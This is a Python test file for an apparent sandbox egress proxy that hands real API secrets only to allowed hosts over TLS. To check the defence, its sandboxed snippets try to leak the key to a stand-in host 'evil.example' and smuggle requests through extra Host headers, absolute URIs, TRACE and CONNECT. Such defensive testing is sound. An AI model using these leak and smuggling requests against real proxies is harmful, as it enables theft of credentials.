"""Secrets: their hosts get the value over TLS, nobody else gets it in any way, and the sandbox never sees it."""

from __future__ import annotations

import base64
import os
import signal

import worlds
from podflare.egress.policy import SecretSpec

VALUE = "sk-real-value+/=&"
SECRETS = {
    "API_KEY": SecretSpec(VALUE, ("api.example.com", "*.sub.example.org", "wrong.example.com", "mute.example.com")),
    "OTHER_KEY": SecretSpec("sk-other", ("other.example.com",)),
}


def _headers(requests, name):
    return [value for request in requests for key, value in request["headers"] if key == name]


def test_the_value_reaches_its_hosts_and_only_them(network, world):
    """In headers, Basic credentials and the query, by proxy or not, a secret's hosts get the value; others a placeholder."""
    sandbox = network(["other.example.com", "evil.example"], SECRETS)
    key, other = sandbox.attached.placeholders["API_KEY"], sandbox.attached.placeholders["OTHER_KEY"]
    told = sandbox.run(
        """
import base64
basic = "Basic " + base64.b64encode(f"user:{KEY}".encode()).decode()
def all_of():
    return [
        fetch("https://api.example.com/echo?key=" + KEY, {"Authorization": "Bearer " + KEY, "X-Other": OTHER}),
        fetch("https://api.example.com/echo", {"Authorization": basic}, data=KEY.encode()),
        fetch("https://deep.sub.example.org/echo", {"X-Key": KEY}),
        fetch("https://other.example.com/echo", {"X-Key": OTHER, "X-Foreign": KEY}),
        fetch("https://evil.example/echo", {"X-Key": KEY}),
    ]
found = [all_of()]
use_proxy()
found.append(all_of())
tell(found)""",
        KEY=key,
        OTHER=other,
    )
    assert all(status == 200 for answers in told for status, _ in answers)
    seen = world.requests()
    assert len(seen) == 10 and all(request["scheme"] == "https" for request in seen)
    for first, second, third, fourth, fifth in (seen[:5], seen[5:]):
        assert ["authorization", f"Bearer {VALUE}"] in first["headers"] and ["x-other", other] in first["headers"]
        assert first["target"] == "/echo?key=sk-real-value%2B%2F%3D%26"
        coded = base64.b64encode(f"user:{VALUE}".encode()).decode()
        assert ["authorization", f"Basic {coded}"] in second["headers"]
        assert second["body"] == key
        assert ["x-key", VALUE] in third["headers"]
        assert ["x-key", "sk-other"] in fourth["headers"] and ["x-foreign", key] in fourth["headers"]
        assert ["x-key", key] in fifth["headers"]
    assert not [entry for entry in sandbox.journal() if VALUE in str(entry)]


def test_nothing_gets_the_value_without_tls_or_to_another_tenant(network, world):
    """Plain HTTP with a placeholder, another Host header, TRACE and servers with a wrong certificate are refused."""
    sandbox = network(["api.example.com"], SECRETS)
    key = sandbox.attached.placeholders["API_KEY"]
    told = sandbox.run(
        """
import base64
basic = "Basic " + base64.b64encode(f"user:{KEY}".encode()).decode()
def tls(name, request, port=443):
    with socket.create_connection((name, port), timeout=8) as sock:
        with trust().wrap_socket(sock, server_hostname=name) as secure:
            secure.sendall(request.replace("\\n", "\\r\\n").encode())
            got = b""
            while part := secure.recv(65536):
                got += part
            return got.decode()
found = {
    "plain": fetch("http://api.example.com/echo", {"X-Key": KEY}),
    "plain basic": fetch("http://api.example.com/echo", {"Authorization": basic}),
    "plain query": fetch("http://api.example.com/echo?k=" + KEY),
    "tenant": tls("api.example.com", f"GET / HTTP/1.1\\nHost: evil.example\\nX-Key: {KEY}\\n\\n"),
    "two hosts": tls("api.example.com", f"GET / HTTP/1.1\\nHost: api.example.com\\nHost: evil.example\\nX-Key: {KEY}\\n\\n"),
    "absolute": tls("api.example.com", f"GET http://evil.example/ HTTP/1.1\\nHost: api.example.com\\nX-Key: {KEY}\\n\\n"),
    "trace": tls("api.example.com", f"TRACE / HTTP/1.1\\nHost: api.example.com\\nX-Key: {KEY}\\n\\n"),
    "connect": tls("api.example.com", f"CONNECT evil.example:443 HTTP/1.1\\nHost: api.example.com\\nX-Key: {KEY}\\n\\n"),
    "impostor": tls("wrong.example.com", f"GET / HTTP/1.1\\nHost: wrong.example.com\\nX-Key: {KEY}\\n\\n"),
    "port": attempt(connect, "api.example.com", 8443)[0],
    "without": fetch("http://api.example.com/echo")[0],
    "junk": attempt(talk, ("api.example.com", 443), b"this is no TLS\\n" * 50)[0],
}
use_proxy()
found["proxy plain"] = fetch("http://api.example.com/echo", {"X-Key": KEY})
found["proxy other"] = fetch("http://evil.example/echo", {"X-Key": KEY})[0]
tell(found)""",
        KEY=key,
    )
    for name in ("plain", "plain basic", "plain query", "proxy plain"):
        status, text = told[name]
        assert status == 403 and "without TLS: use https" in text, name
    codes = {
        name: told[name].split()[1] for name in ("tenant", "two hosts", "absolute", "trace", "connect", "impostor")
    }
    assert codes == {
        "tenant": "421", "two hosts": "400", "absolute": "400", "trace": "405", "connect": "405", "impostor": "502",
    }  # fmt: skip
    assert "TLS with wrong.example.com failed" in told["impostor"]
    assert "refused" in told["port"] and told["without"] == 200 and told["proxy other"] == 403
    assert [request["scheme"] for request in world.requests()] == ["http"]
    reasons = " ".join(entry.reason for entry in sandbox.journal())
    assert "without TLS" in reasons and "Host header" in reasons and VALUE not in reasons


def test_values_come_back_as_placeholders(network, world):
    """Headers of an answer that hold the value show the placeholder to the sandbox; keep-alive, uploads, upgrades work."""
    sandbox = network([], SECRETS)
    key = sandbox.attached.placeholders["API_KEY"]
    told = sandbox.run(
        """
import http.client
web = http.client.HTTPSConnection("api.example.com", timeout=10, context=trust())
bodies = []
for number in range(4):
    web.request("POST", f"/echo?n={number}", body=b"z" * 200000, headers={"X-Key": KEY})
    bodies.append(json.loads(web.getresponse().read())["size"])
web.request("GET", "/redirect?to=https://elsewhere/" + KEY)
answer = web.getresponse()
answer.read()
location = answer.getheader("Location")
web.close()
with socket.create_connection(("api.example.com", 443), timeout=8) as sock:
    with trust().wrap_socket(sock, server_hostname="api.example.com") as secure:
        secure.sendall(f"GET /upgrade HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: echo\\r\\nX-Key: {KEY}\\r\\n\\r\\nhello".encode())
        got = b""
        while not got.endswith(b"hello"):
            part = secure.recv(65536)
            assert part, got
            got += part
tell([bodies, location, got.decode().split()[1]])""",
        KEY=key,
    )
    assert told[0] == [200000] * 4
    # The value is percent-encoded in the query; the server decodes it.
    assert told[1] == f"https://elsewhere/{key}" and told[2] == "101"
    assert _headers(world.requests(), "x-key") == [VALUE] * 5
    counted = [entry for entry in sandbox.journal() if entry.protocol == "tls"]
    assert len(counted) == 2 and counted[0].bytes_out > 800000


def test_everything_public_and_secrets(network, world):
    """With egress=True, too, a secret's host gets the value, and other hosts are reached at their real addresses."""
    sandbox = network(True, SECRETS)
    key = sandbox.attached.placeholders["API_KEY"]
    told = sandbox.run(
        """
tell([fetch("https://api.example.com/echo", {"X-Key": KEY})[0], fetch("https://evil.example/echo", {"X-Key": KEY})[0],
      socket.gethostbyname("evil.example"), attempt(fetch, f"https://{WEB}/echo", {"X-Key": KEY})[0][:20]])""",
        KEY=key,
        WEB=worlds.WEB,
    )
    assert told[:3] == [200, 200, worlds.OTHER_WEB]
    assert _headers(world.requests(), "x-key") == [VALUE, key]


AGAIN = """
ends_s = time.monotonic() + 60
while True:  # until the gate is there again
    try:
        socket.gethostbyname("other.example.com")
        break
    except socket.gaierror:
        assert time.monotonic() < ends_s
"""


def test_forks_share_names_and_secrets(own_network, own_keeper, portal, world):
    """A fork's old addresses and placeholders mean what they meant, also when its parent is gone or the gate was killed."""
    parent = own_network(["other.example.com"], SECRETS)
    key = parent.attached.placeholders["API_KEY"]
    address = parent.run('tell(socket.gethostbyname("other.example.com"))')
    child = parent.fork()
    try:
        parent.close()
        code = """
def web():
    return talk((ADDRESS, 80), b"GET / HTTP/1.0\\r\\n\\r\\n").split()[1]
tell([web(), fetch("https://api.example.com/echo", {"X-Key": KEY})[0]])"""
        assert child.run(code, ADDRESS=address, KEY=key) == ["200", 200]
        killed = own_keeper.gate_pid
        os.kill(killed, signal.SIGKILL)
        again = AGAIN + code
        assert child.run(again, ADDRESS=address, KEY=key) == ["200", 200]
        assert own_keeper.gate_pid != killed
        assert _headers(world.requests(), "x-key") == [VALUE] * 2
    finally:
        child.close()
